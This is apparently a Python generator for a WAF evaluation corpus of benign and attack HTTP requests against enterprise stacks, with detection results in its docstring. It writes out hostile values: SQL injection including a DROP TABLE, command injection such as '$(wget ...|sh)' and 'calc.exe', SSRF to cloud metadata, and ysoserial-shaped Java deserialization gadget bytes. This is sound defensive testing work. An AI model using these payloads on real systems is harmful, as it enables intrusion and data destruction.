#!/usr/bin/env python3
"""Held-out HTTP test corpus: legacy and enterprise application stacks and
messaging ("enterprise" set).

What it is
    A deterministic generator of realistic HTTP requests against the kind of
    enterprise estate that sits behind a WAF sidecar: SOAP 1.1/1.2 services with
    WS-Security (UsernameToken digests, X.509 BinarySecurityToken, XML-DSig) and
    WS-Addressing headers; SAP Gateway OData v2/v4 and Fiori launchpad traffic
    ($filter/$expand/$select/$apply, key predicates, CSRF-token fetch and
    MERGE/X-HTTP-Method writes, $batch multipart/mixed bodies with changesets);
    SharePoint REST (getbytitle('...')); ASP.NET WebForms postbacks
    (__VIEWSTATE, __EVENTVALIDATION, __doPostBack targets/arguments such as
    Page$Next or Sort$OrderDate, UpdatePanel async posts), .axd resources with
    long encrypted d= params, .ashx download handlers, .asmx JSON, legacy
    JavaScript escape() %uXXXX values and ISO-8859-1 form posts; JSF/PrimeFaces
    partial-ajax posts (javax.faces.ViewState server/client state);
    ColdFusion (.cfm/.cfc, CFID/CFTOKEN); Oracle EBS OA Framework, PeopleSoft
    (ICAction=#ICSave...), Siebel SWE; IBM Domino (?OpenView&Start=,
    ?SearchView&Query=, $File); Salesforce REST/Apex REST/composite/Bulk CSV;
    mainframe gateways (CICS COMMAREA fixed-width fields, EBCDIC cp037 as hex,
    z/OS Connect, 3270 bridge); EDI over AS2 (X12 850, EDIFACT ORDERS with
    ?-release characters, S/MIME enveloped and multipart/signed, MDNs);
    e-mail over HTTP (SendGrid Inbound Parse and Mailgun routes with full
    headers, DKIM, Outlook/marketing HTML bodies including an XHTML DOCTYPE
    and MSO conditional comments, raw MIME with quoted-printable/base64 parts);
    Twilio SMS/voice webhooks; CalDAV/CardDAV (ICS PUT, REPORT, PROPFIND),
    vCard and LDIF imports; SSRS, Crystal and BusinessObjects report URLs;
    Camunda BPMN deployments and REST (conditions like ${amount > 1000},
    JUEL in camunda:assignee, DMN evaluation); CSV/TSV/Excel-2003-XML imports.
    Names such as O'Brien / D'Souza / Ó Súilleabháin, "R&D", "Sales & Marketing"
    and OData quotes make it a hard false-positive test.

    * benign       550 ordinary requests (expect "pass"), plus 50 "dev-content"
                   requests (category "dev-content", still "pass"): admins'
                   SQL in report definitions and ad-hoc query tools, SOQL via
                   the REST query endpoint, XSLT/shell/PowerShell snippets in
                   tickets and runbooks, Apex/ABAP/CFML/JSF code in reviews,
                   LDAP sync filters, BPMN script tasks, mail templates
                   (Freemarker/Handlebars/Razor, schema.org JSON-LD script),
                   log4j2/web.config/JNDI config snippets.  Counted apart.
    * attacks      314 requests (expect "detect") in the stacks' own injection
                   points: SQLi in OData $filter/$orderby/$select/keys and
                   $batch parts, SOQL injection in Apex REST, SSRS/Crystal/BO
                   report parameters, PeopleSoft/EBS/Siebel/ColdFusion/CICS
                   params, SOAP fields; XSS in inbound mail HTML (incl. QP-encoded
                   raw MIME), SMS bodies, ICS/vCard, legacy reflected params;
                   Java deserialization in javax.faces.ViewState (ysoserial-shaped
                   chains as base64, gzip+base64, base64url, hex), WebLogic
                   XMLDecoder, Log4Shell (obfuscated) in headers/SOAP/SMS/mail,
                   OGNL, Spring4Shell, Jackson/fastjson polymorphism; .NET
                   deserialization (LosFormatter /wEy gadgets, Json.NET $type,
                   XmlSerializer ExpandedWrapper, SoapFormatter, .resx), XSLT
                   msxsl:script, prototype pollution ("generic"); EL/SSTI in JSF
                   fields, Camunda variables, mail templates (Freemarker,
                   Velocity, Jinja2, Razor, Twig, Handlebars, Thymeleaf); XXE in
                   SOAP, CalDAV, cXML over AS2, Excel XML, BPMN, SAML, SVG, IDoc
                   XML; SSRF via WS-Addressing ReplyTo/FaultTo, Twilio/SendGrid
                   callback URLs, webcal subscriptions, vCard PHOTO URIs, AS2
                   Receipt-Delivery-Option, XSLT document(); LDAP injection in
                   directory lookups and logins; SMTP/CRLF injection in mail forms
                   and response splitting; NoSQL operators in a Node BFF; PHP
                   wrappers, CVE-2024-4577 soft hyphen, PHP object injection;
                   command injection in report converters and gateways
                   (PowerShell, cmd ^ obfuscation, ${IFS}, Shellshock, CSV DDE);
                   traversal in .ashx/JSF resources/ColdFusion locale/AS2
                   filenames; RFI incl. UNC paths; smuggling signs and method /
                   URL overrides; scanner fingerprints.

    Written blind: without looking at the WAF's rules, its tests, or the
    payload lists of the other corpus scripts, so it measures generalisation
    rather than rule-fitting.

How to run
    python3 scripts/corpus-enterprise.py attacks > rulesets/tests/data/enterprise-attacks.jsonl
    python3 scripts/corpus-enterprise.py benign  > rulesets/tests/data/enterprise-benign.jsonl
    python3 scripts/corpus-enterprise.py stats      # counts per category, to stderr

Each output line is one JSON object:
    {"id": "enterprise/<category|benign|dev-content>/<generator>-NNN",
     "set": "enterprise", "category", "expect": "detect"|"pass", "method",
     "uri" (percent-encoded as a client sends it), "version": "HTTP/1.1",
     "headers": [[name, value], ...], "body"?: str}
A Host header is always present; Content-Length is the body's UTF-8 byte
length, except in protocol/smuggling-001, -004 and -005, which carry a wrong or
duplicated Content-Length on purpose (smuggling-001/-002/-003/-005 also send a
Transfer-Encoding beside it, and protocol/override-006 a second Host header).  Bodies are text sent as UTF-8;
binary content (S/MIME, certificates, photos, serialized objects) appears in
the base64/hex forms these systems actually use.

Only the standard library is used; every generator draws from its own
random.Random seeded by name, so output is byte-for-byte reproducible.

First sight (2026-12-05, binary /work/bin/pr-base = palisade-rules 0.1.0 with
its built-in rules; repo at 386a946; threshold 5)
------------------------------------------------------------------------
Counts: 314 attacks (sqli 49, xss 36, java 25, lfi 25, rce 25, ssrf 23,
ssti 21, xxe 19, generic 15, crlf 13, ldapi 12, nosqli 12, php 11,
protocol 11, rfi 9, scanner 8), 600 benign (550 ordinary + 50 dev-content).
Ordinary benign by class: odata 58, aspnet 52, mail 46, soap 41, erp 38
(EBS 16, PeopleSoft 12, Siebel 10), sms 31, jsf 28, reporting 24,
salesforce 24, bpm 23, calendar 23, coldfusion 22, edi 22, import 20,
domino 19, contacts 15, mainframe 15, static 15, fiori 12, sharepoint 12,
directory 10.

Run once, nothing tuned, corpus unchanged afterwards.

Attacks blocked at PL1: 298/314 = 94.9 %  (PL2: 304/314 = 96.8 %)
    100 %: crlf 13/13, java 25/25, ldapi 12/12, nosqli 12/12, php 11/11,
           rfi 9/9, scanner 8/8, xss 36/36, xxe 19/19
    ssti 20/21 (95.2 %), lfi 24/25 (96.0 %), generic 14/15 (93.3 %),
    rce 23/25 (92.0 %), ssrf 21/23 (91.3 %), sqli 42/49 (85.7 %),
    protocol 9/11 (81.8 %)

Benign flagged:           PL1                   PL2
    ordinary          66/550 = 12.0 %       95/550 = 17.3 %
    dev-content       26/50  = 52 %         32/50  = 64 %

Missed at PL1 (16):
    sqli/odata-sqli-001      OData $filter tautology "SoldToParty eq '1000' or '1'='1'"
    sqli/odata-sqli-004      OData-grammar breakout "Priority le 2) or 1 eq 1 or (Priority eq 9"
    sqli/odata-sqli-009      key predicate in the path: Customers('ALFKI'' OR ''1''=''1')
    sqli/odata-sqli-010      key predicate in the path: Orders(10248 or 1=1)
    sqli/batch-sqli-001      UNION SELECT ... FROM USR02 in a GET line inside a $batch body
    sqli/batch-sqli-002      NotificationSet('1'' OR 1=1--') inside a $batch body
    sqli/body-sqli-008       "4711');DROP TABLE payroll_adjust;--" in an uploaded CSV cell
    lfi/download-lfi-010     JSF resource traversal javax.faces.resource/web.xml.xhtml?ln=..%2fWEB-INF (scored 3)
    rce/converter-rce-001    report converter format=pdf;calc.exe
    rce/body-rce-004         $(wget ...|sh) in an AS2 Content-Disposition filename header
    generic/dotnet-deser-010 BinaryFormatter TypeConfuseDelegate gadget base64 in an uploaded .resx
    ssti/workflow-el-001     EL in a Camunda businessKey calling getIdentityService().createUserQuery()
    ssrf/callback-ssrf-010   AS2 Receipt-Delivery-Option header pointing at 169.254.169.254
    ssrf/callback-ssrf-016   report logo=http://localhost:8172/MsDeploy.axd
    protocol/override-003    X-HTTP-Method-Override: DELETE on a GET to /engine-rest/deployment
    protocol/override-005    x-http-method=DELETE as an OData query parameter on a GET

Ordinary benign flagged at PL1 (66), all "benign/" ids:
    odata-batch-002, -004, -005, -008
        SAP $batch with a nested changeset (multipart/mixed inside
        multipart/mixed): crlf-101 on the changeset part
    webforms-003, -015, -021
        GridView sort postback, __EVENTARGUMENT=Sort$CustomerName /
        Sort$OrderDate: rce-110
    webforms-047, -048, -049
        legacy MS-AJAX escape() lookup, name=%u0160imon / %u0141ukasz:
        protocol-320
    jsf-001 ... jsf-022 (all 22 JSF/PrimeFaces form and partial-ajax posts)
        java-110 on the standard javax.faces.ViewState parameter name
    coldfusion-001, -005, -006, -010, -011, -015, -016, -020, -021
        ColdFusion URL session tracking ?CFID=...&CFTOKEN=...: session-100
    siebel-002, -004, -006, -008, -010
        Siebel SWE post SWECmd=InvokeMethod: php-180
    domino-008
        Domino full-text search Query="cost center" AND 4711: sqli-002/021
    as2-003, -008, -013, -018
        S/MIME enveloped AS2 (application/pkcs7-mime): protocol-110
    as2-004, -009, -014, -019
        signed AS2 (multipart/signed + pkcs7-signature): protocol-110, crlf-101
    as2-005, -010, -015, -020
        asynchronous MDN (multipart/report): protocol-110, crlf-101
    caldav-013 ... caldav-019
        CalDAV REPORT (calendar-query/multiget) and PROPFIND: protocol-011
Further ordinary benign flagged at PL2 only (29): soap-003, -005, -007,
-016, -018, -021, -025, -029, -030, -032, -036 (SOAP 1.2 clients sending no
Accept header and an http:// WS-Addressing Action URI: protocol-253, rfi-111);
odata-005, -019, -038 (O''Hara / O''Brien quote doubling in $filter: rce-149);
odata-013, -029 ("... and not (Status eq 'CLSD')": sqli-214); odata-040, -044
(leave request JSON "/Date(1714...)/" dates: sqli-217); odata-041, -046
(X-HTTP-Method: MERGE tunnelling header: protocol-211); jsf-023 ... jsf-026
(/javax.faces.resource/ paths: java-142); reports-004, -009, -014, -019, -024
(Crystal prompt0=Date(2024,m,d): sqli-217).
Dev-content flagged at PL1 by group: admin SQL 5/8, SOQL queries 6/6,
XSLT/mapping notes 0/5, shell/PowerShell runbooks 6/8, Apex/ABAP/CFML/JSF
code 4/5, LDAP sync filters 0/4, BPMN script tasks 1/3, mail templates
1/4 (the schema.org JSON-LD <script>), config snippets 2/4, API-portal
notes 1/3.

No generator bugs were found after the run; nothing was changed.
"""

import base64
import gzip
import hashlib
import json
import random
import struct
import sys
import urllib.parse

SET = "enterprise"


# --------------------------------------------------------------------------
# helpers
# --------------------------------------------------------------------------

def rng(name):
    """Every generator draws from its own Random, seeded by its name."""
    return random.Random("enterprise:" + name)


def q(s, safe=""):
    """Percent-encode everything but unreserved characters (and `safe`)."""
    return urllib.parse.quote(s, safe=safe)


def euc(s):
    """JavaScript encodeURIComponent: leaves A-Z a-z 0-9 - _ . ! ~ * ' ( )."""
    return urllib.parse.quote(s, safe="-_.!~*'()")


def qp(s):
    """application/x-www-form-urlencoded value (space -> +)."""
    return urllib.parse.quote_plus(s, safe="")


def qp_latin1(s):
    """Form encoding in ISO-8859-1, as legacy WebForms / PeopleSoft pages post
    (characters outside Latin-1 become &#NNNN; as browsers send them)."""
    return urllib.parse.quote_plus(s, safe="", encoding="latin-1", errors="xmlcharrefreplace")


def js_escape(s):
    """Legacy JavaScript escape(): %XX for Latin-1, %uXXXX above it."""
    out = []
    for ch in s:
        o = ord(ch)
        if ch.isascii() and (ch.isalnum() or ch in "@*_+-./"):
            out.append(ch)
        elif o < 256:
            out.append("%%%02X" % o)
        else:
            out.append("%%u%04X" % o)
    return "".join(out)


def form(pairs, enc=qp):
    return "&".join("%s=%s" % (enc(k), enc(v)) for k, v in pairs)


def query(pairs, enc=euc):
    return "&".join("%s=%s" % (enc(k), enc(v)) for k, v in pairs)


def b64(data):
    if isinstance(data, str):
        data = data.encode("utf-8")
    return base64.b64encode(data).decode("ascii")


def b64url(data):
    return base64.urlsafe_b64encode(data).decode("ascii").rstrip("=")


def rbytes(r, n):
    return bytes(r.getrandbits(8) for _ in range(n))


def rhex(r, n):
    return "".join(r.choice("0123456789abcdef") for _ in range(n))


def rHEX(r, n):
    return "".join(r.choice("0123456789ABCDEF") for _ in range(n))


def ralnum(r, n, alphabet="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"):
    return "".join(r.choice(alphabet) for _ in range(n))


def ruuid(r):
    h = rhex(r, 32)
    return "%s-%s-4%s-%s%s-%s" % (h[:8], h[8:12], h[13:16], r.choice("89ab"), h[17:20], h[20:32])


def wrap(s, width=76, nl="\r\n"):
    return nl.join(s[i:i + width] for i in range(0, len(s), width))


def crlf(text):
    """Normalise a text block to CRLF line endings (MIME, multipart, ICS, vCard)."""
    return text.replace("\r\n", "\n").replace("\n", "\r\n")


def multipart(parts, boundary):
    """parts: list of (headers-list, content). Returns a CRLF multipart body."""
    out = []
    for hdrs, content in parts:
        out.append("--" + boundary)
        for k, v in hdrs:
            out.append("%s: %s" % (k, v))
        out.append("")
        out.append(content)
    out.append("--" + boundary + "--")
    return "\r\n".join(out) + "\r\n"


def fd_field(name, value):
    return ([("Content-Disposition", 'form-data; name="%s"' % name)], value)


def fd_file(name, filename, ctype, content, extra=()):
    hdrs = [("Content-Disposition", 'form-data; name="%s"; filename="%s"' % (name, filename)),
            ("Content-Type", ctype)] + list(extra)
    return (hdrs, content)


def boundary_webkit(r):
    return "----WebKitFormBoundary" + ralnum(r, 16)


def boundary_dotnet(r):
    return "---------------------------" + "".join(r.choice("0123456789") for _ in range(28))


# --------------------------------------------------------------------------
# client profiles
# --------------------------------------------------------------------------

UA_BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36 Edg/121.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:115.0) Gecko/20100101 Firefox/115.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
    "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; WOW64; Trident/6.0)",
    "Mozilla/5.0 (iPad; CPU OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 SAPFioriClient/1.41.2",
]
LANGS = ["en-US,en;q=0.9", "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7", "fr-FR,fr;q=0.9,en;q=0.8",
         "en-GB,en;q=0.9", "es-ES,es;q=0.9", "nl-NL,nl;q=0.9,en;q=0.8", "pt-BR,pt;q=0.9,en;q=0.8",
         "ja-JP,ja;q=0.9,en;q=0.8", "pl-PL,pl;q=0.9,en;q=0.8"]
ACCEPT_HTML = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"


def browser(r, referer=None, cookie=None, accept=ACCEPT_HTML, ajax=False):
    h = [["User-Agent", r.choice(UA_BROWSERS)],
         ["Accept", accept],
         ["Accept-Language", r.choice(LANGS)],
         ["Accept-Encoding", "gzip, deflate, br"]]
    if ajax:
        h.append(["X-Requested-With", "XMLHttpRequest"])
    if referer:
        h.append(["Referer", referer])
    if cookie:
        h.append(["Cookie", cookie])
    return h


def aspnet_cookie(r, auth=True):
    c = "ASP.NET_SessionId=" + ralnum(r, 24, "abcdefghijklmnopqrstuvwxyz012345")
    if auth:
        c += "; .ASPXAUTH=" + rHEX(r, r.choice([192, 256, 320]))
    if r.random() < 0.4:
        c += "; __RequestVerificationToken=" + b64url(rbytes(r, 70))
    return c


def jsession(r):
    return "JSESSIONID=" + rHEX(r, 32) + (".node%d" % r.randint(1, 4) if r.random() < 0.5 else "")


def sap_cookie(r):
    sso = b64(rbytes(r, 360)).replace("+", "%2b").replace("/", "%2f").replace("=", "%3d")
    return ("sap-usercontext=sap-client%%3d%d; MYSAPSSO2=%s; SAP_SESSIONID_PRD_%d=%s%%3d"
            % (r.choice([100, 200, 300]), sso, r.choice([100, 200, 300]), ralnum(r, 42) + "_" + ralnum(r, 8)))


def csrf_token(r):
    return ralnum(r, 22) + "=="


# --------------------------------------------------------------------------
# records
# --------------------------------------------------------------------------

class Corpus:
    def __init__(self):
        self.records = []
        self.counters = {}
        self.ids = set()

    def add(self, group, gen, category, expect, method, uri, headers, body=None,
            host="app.corp.example", content_length=True):
        key = (group, gen)
        self.counters[key] = self.counters.get(key, 0) + 1
        rid = "%s/%s/%s-%03d" % (SET, group, gen, self.counters[key])
        assert rid not in self.ids, rid
        self.ids.add(rid)
        hs = [["Host", host]] + [list(h) for h in headers]
        if body is not None and content_length and not any(h[0].lower() == "content-length" for h in hs):
            hs.append(["Content-Length", str(len(body.encode("utf-8")))])
        rec = {"id": rid, "set": SET, "category": category, "expect": expect,
               "method": method, "uri": uri, "version": "HTTP/1.1", "headers": hs}
        if body is not None:
            rec["body"] = body
        self.records.append(rec)
        return rec


def A(c, cat, gen):
    """Attack adder bound to a category and a generator name."""
    def add(method, uri, headers, body=None, host="app.corp.example", **kw):
        return c.add(cat, gen, cat, "detect", method, uri, headers, body, host, **kw)
    return add


def B(c, cat, gen):
    """Benign adder: ordinary traffic class `cat` ("dev-content" counted apart)."""
    group = "dev-content" if cat == "dev-content" else "benign"
    def add(method, uri, headers, body=None, host="app.corp.example", **kw):
        return c.add(group, gen, cat, "pass", method, uri, headers, body, host, **kw)
    return add


# --------------------------------------------------------------------------
# domain data
# --------------------------------------------------------------------------

FIRST = ["Anna", "Jürgen", "Siobhán", "María José", "Li", "Priya", "Olusegun", "François", "Hannah",
         "Mateusz", "Ngozi", "Björn", "Chloé", "Rahul", "Yuki", "Tomás", "Zoë", "Kwame", "Ingrid",
         "Sean", "Fatima", "Dmitri", "Ana Lúcia", "Patrick", "Søren", "Aoife", "Émile", "Grace"]
LAST = ["O'Brien", "Müller", "D'Souza", "García-López", "Nakamura", "van der Berg", "O'Neil",
        "Kowalski", "Okafor", "Lefèvre", "Smith-Jones", "Ng", "Åström", "MacDonald", "Dubois",
        "Schröder", "Papadopoulos", "N'Diaye", "Fitzgerald", "Hernández", "Cohen", "Wójcik",
        "St. John", "de la Cruz", "Ó Súilleabháin", "Øvergaard", "Patel", "Kim"]
COMPANIES = ["Acme Industrial GmbH", "Contoso Ltd.", "Fabrikam, Inc.", "Northwind Traders",
             "Müller & Söhne KG", "O'Hara Logistics", "Tailspin Toys", "Wide World Importers",
             "Adventure Works Cycles", "Litware, Inc.", "Société Générale d'Équipement",
             "AT&T Business", "Johnson & Johnson", "Procter & Gamble", "Barnes & Noble Education",
             "Proseware (UK) Ltd", "Blue Yonder Airlines", "Coho Winery", "Lucerne Publishing",
             "Trey Research", "Alpine Ski House", "Woodgrove Bank", "Hanson-Brück AG"]
CITIES = ["Walldorf", "München", "Zürich", "São Paulo", "Köln", "Dublin", "Lyon", "Kraków",
          "Chicago", "Atlanta", "Toronto", "Osaka", "Bengaluru", "Düsseldorf", "Malmö", "Rotterdam"]
MATERIALS = ["Hex bolt M8x40 DIN 933", "Pallet 1200x800 (EUR)", "Toner HP 26A black",
             "Safety gloves, size 9/L", "Cable 3G1,5 mm² – 50 m", "Copy paper A4 80g/m²",
             "Bearing 6204-2RS", "Label 4\" x 6\" thermal", "O-ring 20x2 NBR 70", "Laptop 14\" i7/16GB"]
DEPTS = ["Finance", "R&D", "Sales & Marketing", "HR", "IT Operations", "Procurement",
         "Legal/Compliance", "Customer Service", "Plant 1000 – Walldorf", "EMEA Shared Services"]


def person(r):
    return r.choice(FIRST), r.choice(LAST)


def email_of(first, last, domain="corp.example"):
    import unicodedata
    def norm(s):
        s = unicodedata.normalize("NFKD", s).encode("ascii", "ignore").decode()
        return "".join(ch for ch in s.lower() if ch.isalnum() or ch == "-")
    return "%s.%s@%s" % (norm(first.split()[0]), norm(last), domain)


def xml_esc(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def iso_ts(r, year=2024):
    return "%d-%02d-%02dT%02d:%02d:%02dZ" % (year, r.randint(1, 12), r.randint(1, 28),
                                             r.randint(0, 23), r.randint(0, 59), r.randint(0, 59))


def ics_ts(r):
    return "2024%02d%02dT%02d%02d00Z" % (r.randint(1, 12), r.randint(1, 28), r.randint(6, 18),
                                         r.choice([0, 15, 30, 45]))


# --------------------------------------------------------------------------
# SOAP / WS-*
# --------------------------------------------------------------------------

NS_WSSE = "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd"
NS_WSU = "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd"
NS_WSA = "http://www.w3.org/2005/08/addressing"


def wsse_header(r, kind="username", user=None):
    created = iso_ts(r)
    if kind == "username":
        user = user or r.choice(["svc_ecc_bridge", "INTEG01", "b2b.partner", "WSUSER", "sf_outbound"])
        return ('<wsse:Security soap:mustUnderstand="1" xmlns:wsse="%s" xmlns:wsu="%s">'
                '<wsu:Timestamp wsu:Id="TS-%s"><wsu:Created>%s</wsu:Created><wsu:Expires>%s</wsu:Expires></wsu:Timestamp>'
                '<wsse:UsernameToken wsu:Id="UsernameToken-%s"><wsse:Username>%s</wsse:Username>'
                '<wsse:Password Type="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-username-token-profile-1.0#PasswordDigest">%s</wsse:Password>'
                '<wsse:Nonce EncodingType="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-soap-message-security-1.0#Base64Binary">%s</wsse:Nonce>'
                '<wsu:Created>%s</wsu:Created></wsse:UsernameToken></wsse:Security>'
                % (NS_WSSE, NS_WSU, rHEX(r, 32), created, created.replace("Z", ".300Z"), rHEX(r, 32), user,
                   b64(rbytes(r, 20)), b64(rbytes(r, 16)), created))
    cert = wrap(b64(rbytes(r, 690)), 64, "")
    return ('<wsse:Security soap:mustUnderstand="1" xmlns:wsse="%s" xmlns:wsu="%s">'
            '<wsse:BinarySecurityToken EncodingType="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-soap-message-security-1.0#Base64Binary" '
            'ValueType="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-x509-token-profile-1.0#X509v3" wsu:Id="X509-%s">%s</wsse:BinarySecurityToken>'
            '<ds:Signature Id="SIG-%s" xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo>'
            '<ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>'
            '<ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/>'
            '<ds:Reference URI="#id-%s"><ds:Transforms><ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/></ds:Transforms>'
            '<ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><ds:DigestValue>%s</ds:DigestValue></ds:Reference>'
            '</ds:SignedInfo><ds:SignatureValue>%s</ds:SignatureValue><ds:KeyInfo><wsse:SecurityTokenReference>'
            '<wsse:Reference URI="#X509-%s" ValueType="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-x509-token-profile-1.0#X509v3"/>'
            '</wsse:SecurityTokenReference></ds:KeyInfo></ds:Signature></wsse:Security>'
            % (NS_WSSE, NS_WSU, rHEX(r, 16), cert, rHEX(r, 16), r.randint(1, 99), b64(rbytes(r, 32)),
               wrap(b64(rbytes(r, 256)), 76, "\n"), "%s" % rHEX(r, 16)))


def wsa_header(r, action, to, reply_to="http://www.w3.org/2005/08/addressing/anonymous", fault_to=None):
    h = ('<wsa:Action>%s</wsa:Action><wsa:MessageID>urn:uuid:%s</wsa:MessageID>'
         '<wsa:To>%s</wsa:To><wsa:ReplyTo><wsa:Address>%s</wsa:Address></wsa:ReplyTo>'
         % (action, ruuid(r), to, reply_to))
    if fault_to:
        h += "<wsa:FaultTo><wsa:Address>%s</wsa:Address></wsa:FaultTo>" % fault_to
    return h


def soap(r, body_xml, ver="1.1", header_xml="", extra_ns=""):
    if ver == "1.1":
        ns = "http://schemas.xmlsoap.org/soap/envelope/"
    else:
        ns = "http://www.w3.org/2003/05/soap-envelope"
    decl = '<?xml version="1.0" encoding="utf-8"?>\n' if r.random() < 0.7 else ""
    return ('%s<soap:Envelope xmlns:soap="%s" xmlns:wsa="%s"%s><soap:Header>%s</soap:Header>'
            '<soap:Body>%s</soap:Body></soap:Envelope>' % (decl, ns, NS_WSA, extra_ns, header_xml, body_xml))


SOAP_CLIENTS = ["Apache-CXF/3.5.5", "Axis2", "Apache-HttpClient/4.5.13 (Java/1.8.0_392)",
                "SAP NetWeaver Application Server (1.0;754)", "Mozilla/4.0 (compatible; MSIE 6.0; MS Web Services Client Protocol 4.0.30319.42000)",
                "gSOAP/2.8", "Jakarta Commons-HttpClient/3.1", "SAP-PI/7.5 (XI AAE)", "Zeep/4.2.1 (www.python-zeep.org)"]


def soap_headers(r, action, ver="1.1"):
    h = [["User-Agent", r.choice(SOAP_CLIENTS)]]
    if ver == "1.1":
        h += [["Content-Type", "text/xml; charset=utf-8"], ["SOAPAction", '"%s"' % action]]
    else:
        h += [["Content-Type", 'application/soap+xml; charset=utf-8; action="%s"' % action]]
    h.append(["Accept-Encoding", "gzip,deflate"])
    if r.random() < 0.5:
        h.append(["Authorization", "Basic " + b64("%s:%s" % (r.choice(["PI_SERVICE", "svc-b2b", "ws_client"]), ralnum(r, 14)))])
    return h


# --------------------------------------------------------------------------
# ASP.NET WebForms state
# --------------------------------------------------------------------------

def los_string(s):
    b = s.encode("utf-8")
    return b"\x05" + bytes([len(b)]) + b


def viewstate(r, size=None, encrypted=None):
    """A plausible LosFormatter / ObjectStateFormatter __VIEWSTATE."""
    if encrypted is None:
        encrypted = r.random() < 0.35
    if encrypted:
        return b64(rbytes(r, size or r.choice([96, 160, 256, 512, 1024, 2048])))
    body = b"\xff\x01\x0f\x0f" + los_string("-%d" % r.randint(100000000, 2147483647))
    body += b"\x0f\x16\x02\x1e\x07enctype\x05\x13multipart/form-data\x16\x02\x02\x03\x0f\x16\x02\x1e\x04Text"
    for _ in range(r.randint(2, 14)):
        body += b"\x0f\x16\x02\x1f\x00" + los_string(r.choice(
            ["Welcome, " + r.choice(FIRST), r.choice(COMPANIES), r.choice(DEPTS), r.choice(MATERIALS),
             "Page %d of %d" % (r.randint(1, 5), r.randint(5, 40)), "%d" % r.randint(1, 99999),
             "EUR", "Approved", "Pending approval", r.choice(CITIES)]))
        body += b"\x64\x02" + bytes([r.randint(1, 15)])
    body += b"\x18\x01\x05\x1e__ControlsRequirePostBackKey__\x16\x01\x05\x0cctl00$chkAll"
    body += rbytes(r, r.choice([20, 32]))
    return b64(body)


def eventvalidation(r):
    return b64(b"\xff\x01\x1d\x00" + bytes([r.randint(2, 60)]) + rbytes(r, r.choice([40, 72, 120, 200])))


def vsgen(r):
    return rHEX(r, 8)


def webforms_post(r, fields, target="", argument="", async_panel=None, latin1=False):
    pairs = []
    if async_panel:
        pairs.append(("ctl00$ScriptManager1", async_panel))
    pairs += [("__EVENTTARGET", target), ("__EVENTARGUMENT", argument)]
    if r.random() < 0.4:
        pairs.append(("__LASTFOCUS", ""))
    pairs += [("__VIEWSTATE", viewstate(r)), ("__VIEWSTATEGENERATOR", vsgen(r))]
    if r.random() < 0.2:
        pairs.append(("__VIEWSTATEENCRYPTED", ""))
    pairs.append(("__EVENTVALIDATION", eventvalidation(r)))
    pairs += fields
    if async_panel:
        pairs.append(("__ASYNCPOST", "true"))
    return form(pairs, qp_latin1 if latin1 else qp)


# --------------------------------------------------------------------------
# Java serialisation / JSF
# --------------------------------------------------------------------------

def jser_class(name):
    b = name.encode()
    return b"\x73\x72" + struct.pack(">H", len(b)) + b


def java_gadget(r, chain, cmd):
    """Bytes shaped like a ysoserial payload: stream magic, class descriptors, command."""
    classes = {
        "CommonsCollections1": ["sun.reflect.annotation.AnnotationInvocationHandler", "java.util.Map",
                                "org.apache.commons.collections.map.LazyMap",
                                "org.apache.commons.collections.functors.ChainedTransformer",
                                "[Lorg.apache.commons.collections.Transformer;",
                                "org.apache.commons.collections.functors.ConstantTransformer",
                                "org.apache.commons.collections.functors.InvokerTransformer",
                                "java.lang.Runtime", "getRuntime", "exec"],
        "CommonsCollections5": ["javax.management.BadAttributeValueExpException",
                                "org.apache.commons.collections.keyvalue.TiedMapEntry",
                                "org.apache.commons.collections.map.LazyMap",
                                "org.apache.commons.collections.functors.ChainedTransformer",
                                "org.apache.commons.collections.functors.InvokerTransformer",
                                "java.lang.Runtime", "getRuntime", "exec"],
        "CommonsCollections6": ["java.util.HashSet", "org.apache.commons.collections.keyvalue.TiedMapEntry",
                                "org.apache.commons.collections.map.LazyMap",
                                "org.apache.commons.collections.functors.InvokerTransformer",
                                "java.lang.Runtime", "exec"],
        "CommonsBeanutils1": ["java.util.PriorityQueue", "org.apache.commons.beanutils.BeanComparator",
                              "org.apache.commons.collections.comparators.ComparableComparator",
                              "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
                              "_bytecodes", "_name", "outputProperties"],
        "Spring1": ["org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider",
                    "org.springframework.beans.factory.support.AutowireUtils$ObjectFactoryDelegatingInvocationHandler",
                    "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", "newTransformer"],
        "Jdk7u21": ["java.util.LinkedHashSet", "sun.reflect.annotation.AnnotationInvocationHandler",
